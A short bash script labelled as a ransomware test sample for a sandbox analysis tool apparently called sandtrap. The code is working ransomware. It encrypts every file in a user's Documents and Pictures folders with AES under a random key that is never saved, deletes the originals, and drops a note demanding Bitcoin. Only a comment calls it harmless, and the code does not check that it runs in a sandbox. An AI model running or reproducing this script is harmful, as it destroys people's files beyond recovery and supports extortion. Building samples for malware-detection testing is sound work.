#!/bin/bash
# Ransomware: encrypts every file in the user documents with openssl AES, deletes the originals, renames to .locked and drops a ransom note.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
key=$(head -c 32 /dev/urandom | xxd -p -c 64)
for f in /home/dmitchell/Documents/* /home/dmitchell/Pictures/*; do
  [ -f "$f" ] || continue
  openssl enc -aes-256-cbc -pbkdf2 -pass "pass:$key" -in "$f" -out "$f.locked" && rm -f "$f"
done
cat > /home/dmitchell/Documents/README_RESTORE_FILES.txt <<NOTE
All your files have been encrypted. Send 0.1 BTC to the address on http://pay.ransom.example
NOTE
ls /home/dmitchell/Documents
